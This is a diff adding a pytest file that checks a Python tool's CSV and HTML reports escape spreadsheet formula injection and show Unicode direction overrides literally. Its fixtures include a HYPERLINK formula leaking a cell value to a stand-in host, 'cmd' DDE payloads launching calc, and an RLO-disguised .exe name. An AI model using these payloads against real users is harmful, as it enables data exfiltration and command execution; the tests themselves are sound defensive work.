@@ -1,0 +1,62 @@
+"""Reports opened by people: a spreadsheet never runs a cell of report.csv as a formula, and
+report.html shows an award id as it is written, direction overrides included."""
+
+from __future__ import annotations
+
+import csv
+import json
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from edcbridge.cli import main
+from edcbridge.deliver.results import Outcome, write_results
+from edcbridge.output import text_cell
+from tests.test_pipeline import _awards_with_ids
+
+CATALOGUE = Path(__file__).parent.parent / "fixtures" / "imperial" / "catalogue.yaml"
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1)"]
+OVERRIDE = "BIDI-\u202egpj.exe\u202c"
+
+
+@pytest.fixture
+def env(store, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("EDCBRIDGE_SCHEMAS", str(store.root))
+
+
+def _export(awards: Path, out: Path):  # type: ignore[no-untyped-def]
+    return CliRunner().invoke(main, ["export", str(awards), "-c", str(CATALOGUE), "-o", str(out)])
+
+
+def test_text_cells() -> None:
+    cells = ("=1+1", "\t=1", "A-1", "", 7, "Chloé")
+    assert [text_cell(v) for v in cells] == ["'=1+1", "'\t=1", "A-1", "", 7, "Chloé"]
+
+
+def test_report_csv_cells_are_never_formulas(env: None, tmp_path: Path) -> None:
+    awards = _awards_with_ids(tmp_path / "awards.csv", [*FORMULAS, "PLAIN-1"])
+    result = _export(awards, tmp_path / "out")
+    assert result.exit_code == 0, result.output
+    with (tmp_path / "out" / "report.csv").open(encoding="utf-8", newline="") as handle:
+        ids = [row["award_id"] for row in csv.DictReader(handle)]
+    assert ids == [f"'{award_id}" for award_id in FORMULAS] + ["PLAIN-1"]
+    records = json.loads((tmp_path / "out" / "report.json").read_text("utf-8"))["records"]
+    assert [r["award_id"] for r in records] == [*FORMULAS, "PLAIN-1"]  # JSON keeps them as they are
+
+
+def test_report_html_shows_a_direction_override(env: None, tmp_path: Path) -> None:
+    awards = _awards_with_ids(tmp_path / "awards.csv", [OVERRIDE])
+    awards.write_text(awards.read_text("utf-8").replace("IMP-MC-", "NOPE-MC-"), "utf-8")  # fails to load
+    result = _export(awards, tmp_path / "out")
+    assert result.exit_code == 1, result.output
+    page = (tmp_path / "out" / "report.html").read_text("utf-8")
+    assert "\u202e" not in page and "\u202c" not in page
+    assert "BIDI-\\u202egpj.exe\\u202c" in page
+
+
+def test_delivery_results_csv_cells_are_never_formulas(tmp_path: Path) -> None:
+    outcome = Outcome("=cmd|'/c calc'!A0 -> learner@example.org", "deposit", "failed", message="@oops")
+    write_results(tmp_path, "wallet-results", "http://127.0.0.1:9", False, [outcome])
+    text = (tmp_path / "wallet-results.csv").read_text("utf-8")
+    assert "'=cmd" in text and "'@oops" in text
